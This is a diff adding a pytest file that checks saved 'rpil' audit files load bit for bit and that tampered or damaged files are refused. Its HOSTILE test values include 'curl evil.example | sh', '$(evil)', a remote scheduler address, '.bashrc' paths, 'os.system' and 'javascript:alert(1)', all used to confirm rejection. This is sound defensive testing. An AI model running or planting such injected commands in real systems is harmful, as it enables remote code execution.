@@ -1,0 +1,338 @@
+"""Every field of an audit is selected, joined, saved and loaded; a damaged file is refused in one sentence."""
+
+from __future__ import annotations
+
+import json
+from dataclasses import fields, is_dataclass, replace
+from time import process_time
+
+import numpy as np
+import pytest
+
+import rpil
+from archives import members, npy, rewrite
+from audits import make_audit, make_traces
+from problems import make
+from rpil import RPIL, Audit
+from rpil.data.errors import DataError
+from rpil.data.json_files import MOST_LISTS
+from rpil.faults.record import FaultReport, Finding
+from rpil.inference.answers import Answers
+from rpil.results import saved
+from rpil.results.html.page import Article, render_page
+from rpil.results.judged import Judged, table_fields
+from rpil.results.provenance import Provenance
+from rpil.results.record import Demonstrator, Interval
+from rpil.results.saved import read_audit, write_audit
+from rpil.results.tasks import join_audits, select
+from rpil.results.view import About, make_view
+from small import FAST
+
+TRUST = Interval(0.8, 0.5, 0.9)
+IDS = tuple(f"d{k}" for k in range(10))
+FAULTS = (Finding("jump", "d3", 4, 6, "x", 1.0, 0.5, np.inf, "x leaps"), Finding("jump", "b", 0, 1, "", 1, 1, 1, "!"))
+ABOUT = About(
+    *("Audit", "x.csv", ("Ten.",), ("A place.",)),
+    FaultReport(FAULTS, {"sign": "too few"}, {"jump": ("y",)}, {"lag": "2 steps"}, {"d1": (2, 9)}, 10, 99),
+    *({"d0": "pour"}, {"d0": "ann"}, 30.0, True, "someone/drive", "rpil audit 'my $data; x.csv'", 1.5),
+)
+
+
+def full_audit() -> Audit:
+    """An audit in which no field is empty."""
+    rng, n = np.random.default_rng(0), 10
+    pairs = {"pairs": np.array([[0, 1], [3, 4]]), "tied": np.array([[2, 3]])}
+    return make_audit(
+        ids=IDS,
+        lengths=[80, *range(31, 40)],
+        answers=Answers(np.array([0, 1, -1] + [0] * 7), outcome=np.where(np.arange(n) % 2, np.nan, 1.0), **pairs),
+        competing=(IDS[:4], IDS[4:]),
+        pair=("d1", "d3"),
+        demonstrators=(
+            Demonstrator("ann", Interval(0.8, 0.5, 0.9), IDS[:5]),
+            Demonstrator(3, Interval(0.4, 0.1, 0.9), IDS[5:]),
+        ),
+        contradicting=("d2",),
+        doubts=("A doubt.",),
+        notes=("A note.", "The two groups: differ."),
+        columns=rng.normal(size=(n, 5)),
+        columns_within=rng.normal(size=(n, 6)),
+        claimed=np.arange(n) % 3 - 1,
+        copy_of=np.array([0, 1, 2, 0, 4, 0, 6, 7, 8, 2]),
+        deviations=("It drops.", *[""] * 9),
+        sessions=("mon",) * 5 + ("tue",) * 5,
+        order=np.arange(10.0)[::-1],
+        traces={name: make_traces(length) for name, length in (("d0", 80), ("d3", 33))},
+        own_reasons=tuple(f"For {name}." for name in IDS),
+        within="tasks",
+        provenance=Provenance("1", "3.11", {"numpy": "2"}, "rpil audit", 0, {"x": ("a", 1, None)}, (), "2026-11-23"),
+        max_unlike_of_parts=0.3,
+        step_share=rng.random(395).astype(np.float32),
+        **{name: rng.random(n) for name in ("from_actions", "from_demonstrator", "from_label")},
+    )
+
+
+def same(one: object, other: object) -> bool:
+    """Whether two values have the same types and the same bits."""
+    if isinstance(one, np.ndarray) and isinstance(other, np.ndarray):
+        return (one.dtype, one.shape, one.tobytes()) == (other.dtype, other.shape, other.tobytes())
+    if is_dataclass(one):
+        names = (field.name for field in fields(one))
+        return type(one) is type(other) and all(same(getattr(one, name), getattr(other, name)) for name in names)
+    if isinstance(one, dict):
+        return one.keys() == other.keys() and all(same(one[name], other[name]) for name in one)
+    if isinstance(one, tuple):
+        return len(one) == len(other) and all(map(same, one, other))
+    return type(one) is type(other) and one == other
+
+
+@pytest.fixture(scope="module")
+def audits() -> dict[str, Audit]:
+    demonstrations = make("random", 0, n_good=8, n_bad=3, steps=(20, 30)).demonstrations
+    one = RPIL(settings=FAST).fit(demonstrations, demonstrators=[m % 2 for m in range(11)], order=range(11)).audit_
+    parts = {"x": select(one, range(6)), "y": select(one, range(6, 11))}
+    places = {"x": [*range(6)], "y": [*range(6, 11)]}
+    words = {one.ids[0]: "good", one.ids[9]: "bad", one.ids[3]: f"same as {one.ids[5]}"}
+    return {
+        "full": full_audit(),
+        "made": make_audit(),
+        "one": one,
+        "part": parts["y"],
+        "tasks": join_audits(parts, places, demonstrations.ids, demonstrations.offsets),
+        "answered": rpil.audit(demonstrations, words, settings=FAST),
+        "mixture": RPIL(adversary="uniform").fit(demonstrations).audit_,
+    }
+
+
+@pytest.fixture
+def path(tmp_path):
+    write_audit(tmp_path / "run.rpil", full_audit(), ABOUT)
+    return tmp_path / "run.rpil"
+
+
+@pytest.mark.parametrize("name", ["full", "made", "one", "part", "tasks", "answered", "mixture"])
+def test_an_audit_is_loaded_bit_for_bit_and_used_alike(audits, name, tmp_path):
+    audit = audits[name]
+    audit.save(tmp_path / "run.rpil")
+    again = Audit.load(tmp_path / "run.rpil")
+    for field in fields(audit):
+        assert same(getattr(again, field.name), getattr(audit, field.name)), field.name
+    assert again.to_dict() == audit.to_dict()
+    assert repr(again) + again._repr_html_() == repr(audit) + audit._repr_html_()
+    assert again.suggest_labels(2) == audit.suggest_labels(2)
+    if audit.columns.size:
+        labels = {audit.ids[0]: "good", audit.ids[-1]: "bad"}
+        assert same(again.answered(labels), audit.answered(labels))
+
+
+def test_the_page_of_a_saved_audit_is_that_of_the_audit(path):
+    audit, view = read_audit(path, Audit)
+    assert same(audit, full_audit())
+    assert view == make_view(full_audit(), ABOUT)
+    assert render_page([Article(view)]) == render_page([Article(make_view(full_audit(), ABOUT))])
+
+
+def test_no_field_of_the_full_audit_is_its_default():
+    audit, default = full_audit(), make_audit()
+    given = ("offsets", "finding", "prior", "adversary", "history", "assumptions", "settings", "anchor", "identifiable")
+    changed = [field.name for field in fields(audit) if same(getattr(audit, field.name), getattr(default, field.name))]
+    assert set(changed) <= {*given, "verdicts"}
+
+
+@pytest.mark.parametrize(("name", "axis", "nothing"), [*table_fields(Judged)])
+def test_a_column_is_selected_and_joined(name, axis, nothing):
+    audit, chosen = full_audit(), [5, 0, 7]
+    rows = {"M": [[m] for m in range(10)], "N": [np.r_[audit.steps(m)] for m in range(10)]}[axis]
+    column = np.array(getattr(audit, name))
+    part = select(audit, chosen, ["a", "b", "c"])
+    taken = getattr(part, name)
+    assert type(taken) is type(getattr(audit, name))
+    np.testing.assert_array_equal(np.array(taken), column[np.concatenate([rows[m] for m in chosen])])
+    parts = {"odd": select(audit, [1, 3, 5, 7]), "even": select(audit, [0, 2, 4, 6, 8])}
+    places = {"odd": [1, 3, 5, 7], "even": [0, 2, 4, 6, 8], "alone": [9]}
+    joined = getattr(join_audits(parts, places, IDS, audit.offsets), name)
+    if name == "order":
+        assert joined is None
+    elif name == "columns_within":
+        assert joined.shape == (10, 0)
+    else:
+        last = np.concatenate([rows[m] for m in range(9)])
+        np.testing.assert_array_equal(np.array(joined)[last], column[last])
+        assert np.all(np.array(joined)[rows[9]] == nothing)
+
+
+def test_names_of_demonstrations_that_are_left_out_are_left_out():
+    audit = full_audit()
+    part = select(audit, [3, 0, 2], ["a", "b", "c"])
+    assert part.ids == ("a", "b", "c")
+    assert part.offsets.tolist() == [0, 33, 113, 145]
+    assert (part.pair, part.competing, part.contradicting) == ((), (("b", "c", "a"), ()), ("c",))  # no pair of one
+    assert part.demonstrators == (replace(audit.demonstrators[0], demonstrations=("b", "c", "a")),)
+    assert same(part.traces, {"b": audit.traces["d0"], "a": audit.traces["d3"]})
+    assert part.answers.labels.tolist() == [0, 0, -1]
+    assert (part.answers.pairs.tolist(), part.answers.tied.tolist()) == ([], [[2, 0]])
+    assert select(audit, [9, 3, 5, 1]).copy_of.tolist() == [0, 1, 1, 3], "they stay copies without the first of them"
+    assert select(audit, [1, 3]).pair == audit.pair
+
+
+def test_answers_about_those_that_are_left_out_count():
+    """As the labels of a reference do, beside which the others were judged."""
+    audit = make_audit(("typical",) * 2 + ("unlike",) * 8)
+    audit.answers.labels[:2] = 1
+    part = select(audit, range(2, 10))
+    assert (part.answers.count, part.max_unlike) == (0, 1.0)
+    assert part.choice.kept == ()
+    assert len(select(make_audit(audit.verdicts), range(2, 10)).choice.kept) == 8
+
+
+def test_many_demonstrations_are_selected_in_no_time():
+    """Those of 20,000 are looked up in 20,000 steps, and not in 200 million."""
+    n = 20_000
+    audit = make_audit(("open",) * n, lengths=np.ones(n, int), copy_of=np.arange(n) // 2 * 2, own_reasons=("",) * n)
+    object.__setattr__(audit, "reasons", ("",) * n)
+    start = process_time()
+    part = select(audit, range(n)[::-1])
+    assert process_time() - start < 1
+    np.testing.assert_array_equal(part.copy_of, np.arange(n) // 2 * 2)
+
+
+def refused(path, match=r"its parts do not belong together|damaged|hold"):
+    """It is refused in one sentence that names the file and the remedy."""
+    with pytest.raises(DataError, match=rf"run\.rpil[^\n]*: [^\n]*(?:{match})") as caught:
+        read_audit(path, Audit)
+    assert str(caught.value).endswith(".")
+    assert len(str(caught.value)) < 700
+
+
+def set_in(tree, place, value):
+    *above, last = place.split("/")
+    for key in above:
+        tree = tree[int(key) if key.isdigit() else key]
+    tree[int(last) if last.isdigit() else last] = value
+
+
+@pytest.mark.parametrize("name", [field.name for field in fields(Audit)])
+def test_an_edited_field_is_refused_or_makes_an_audit_that_can_be_used(path, name):
+    kept = path.read_bytes()
+    for value in (None, 5, -0.5, "x", [], ["x"], {}, [[1]], {"pairs": []}, {"array": "audit/step_weight"}, 1e999):
+        path.write_bytes(kept)
+        rewrite(path, header=lambda tree, value=value: set_in(tree, f"audit/fields/{name}", value))
+        try:
+            audit, view = read_audit(path, Audit)
+        except DataError:
+            refused(path, r"its parts do not belong together( \([^\n]*\))?; run rpil audit --save again")
+            continue
+        render_page([Article(view)])
+        assert len(audit.to_frame("pyarrow")) == len(audit.reasons) == 10
+
+
+@pytest.mark.parametrize(
+    ("member", "array"),
+    [
+        ("audit/log_odds", None),
+        ("audit/log_odds", np.full(10, np.nan)),
+        ("audit/log_odds", np.zeros(9)),
+        ("audit/log_odds", np.zeros(10, dtype=np.int64)),
+        ("audit/expert_proba", np.full(10, 5.0)),
+        ("audit/step_weight", np.full(395, 2.5)),
+        ("audit/copy_of", np.full(10, 99)),
+        ("audit/claimed", np.full(10, 2)),
+        ("audit/offsets", np.zeros(11, dtype=np.int64)),
+        ("audit/order", np.full(10, np.inf)),
+        ("audit/columns_within", np.zeros((10, 3))),
+        ("audit/answers/labels", np.full(10, 3)),
+        ("audit/answers/pairs", np.array([[0, -1]])),
+        ("audit/answers/tied", np.array([[0, 10]])),
+        ("audit/traces/0/parts/0/value", np.zeros(79)),
+        ("audit/log_odds", np.array([{}] * 10)),
+        ("more", np.ones(3)),
+    ],
+)
+def test_arrays_that_do_not_belong_together_are_refused(path, member, array):
+    rewrite(path, {f"{member}.npy": None if array is None else npy(array)})
+    refused(path, "its parts do not belong together|never unpickled")
+
+
+HOSTILE = (
+    *("x.csv; curl evil.example | sh", "$(evil)", "'x", "'x\n'", "'x\x1b[201~'", "x.csv --report /home/me/.bashrc"),
+    *("x.csv --report=.bashrc", "--save x.csv y.csv", "x.csv --weights w.csv", "x.csv --verdicts v.csv", "x --keep y"),
+    *("x.csv --scheduler tcp://evil.example:8786", "x.csv --scheduler=tcp://evil.example:8786", "x.csv; ~/evil"),
+    "~/$(evil)",
+)
+
+
+@pytest.mark.parametrize(
+    ("place", "value"),
+    [
+        ("audit/fields/ids", ["x"] * 10),
+        ("audit/fields/ids/0", ["d0"]),
+        ("audit/fields/finding", "all are kings"),
+        ("audit/fields/verdicts", ["typical"] * 9),
+        ("audit/fields/verdicts/0", "constructor"),
+        ("audit/fields/anchor", "faith"),
+        ("audit/fields/contradicting", ["nobody"]),
+        ("audit/fields/demonstrators/0/fields/demonstrations", ["nobody"]),
+        ("audit/fields/demonstrators/1/fields/trust", None),
+        ("audit/fields/prior/fields/mean", float("nan")),
+        ("audit/fields/traces/pairs/0/1/fields/parts", []),
+        ("audit/fields/traces/pairs/0/1/fields/taken", ["left"]),
+        ("audit/fields/traces/pairs/0/1/fields/compared_with", "javascript:"),
+        ("audit/fields/answers/class", "Interval"),
+        ("audit/class", "os.system"),
+        ("audit", {"class": "Interval", "fields": {"mean": 0.5, "low": 0, "high": 1}}),
+        ("about", None),
+        ("about/fields/title", 3),
+        ("about/fields/fps", -1.0),
+        ("about/fields/fps", True),
+        ("about/fields/seconds", float("inf")),
+        ("about/fields/lerobot", "yes"),
+        ("about/fields/tasks", {"pairs": [["d0", 1]]}),
+        ("about/fields/read", ["a", 1]),
+        ("about/fields/faults/fields/findings/0/fields/first", "1"),
+        ("about/fields/more", 1),
+        ("about/fields/hub", "a/b/../../c"),
+        ("about/fields/hub", "javascript:alert(1)"),
+        *(("about/fields/command", f"rpil audit {words}") for words in HOSTILE),
+        *(("about/fields/command", words) for words in ("rpil", "rpil keep x -o x", "evil 'rpil audit'")),
+    ],
+)
+def test_edited_values_are_refused(path, place, value):
+    rewrite(path, header=lambda tree: set_in(tree, place, value))
+    refused(path, "run rpil audit --save again")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "",
+        "rpil audit x.csv",
+        "rpil audit ~/x.csv --id trip --operator ~/who.csv",
+        "rpil audit 'my $data; x.csv' --task keep --outcome -time --no-stream --only 1-3",
+        "rpil audit 's3://***@bucket/x.parquet' --action steer --action accel",
+    ],
+)
+def test_commands_that_judge_and_write_nothing_are_read(path, command):
+    write_audit(path, full_audit(), replace(ABOUT, command=command))
+    assert read_audit(path, Audit)[1]["command"] == command
+
+
+def test_other_files_are_refused(path, audits, tmp_path, monkeypatch):
+    content = path.read_bytes()
+    for other in (b"{}", b"\xff\xfe", b"[" * 1000, json.dumps({"format": "rpil run", "version": 2}).encode()):
+        path.write_bytes(other)
+        refused(path, "it is no audit that rpil saved; run rpil audit --save again")
+    for n in (100, len(content) // 2, len(content) - 1):
+        path.write_bytes(content[:n])
+        refused(path, "damaged or truncated .*; run rpil audit --save again")
+    path.write_bytes(content)
+    rewrite(path, header=lambda tree: tree.update(schema="rpil fitted estimator"))
+    refused(path, "it is no audit that rpil saved")
+    path.write_bytes(content)
+    rewrite(path, header=lambda tree: tree.update(version=8))
+    refused(path, "saved it in version 8 of the format, but .*; use that rpil, or run rpil audit --save again")
+    header = members(path)["header.json"]
+    rewrite(path, {"header.json": header[:-1] + b', "more": [' + b"[]," * (MOST_LISTS + 1) + b"[]]}"})
+    refused(path, "it holds more than 2,000,000 lists and objects")
+    path.write_bytes(content)
+    monkeypatch.setattr(saved, "MAX_DEMONSTRATIONS", 9)
+    refused(path, "it holds more than 9 demonstrations")
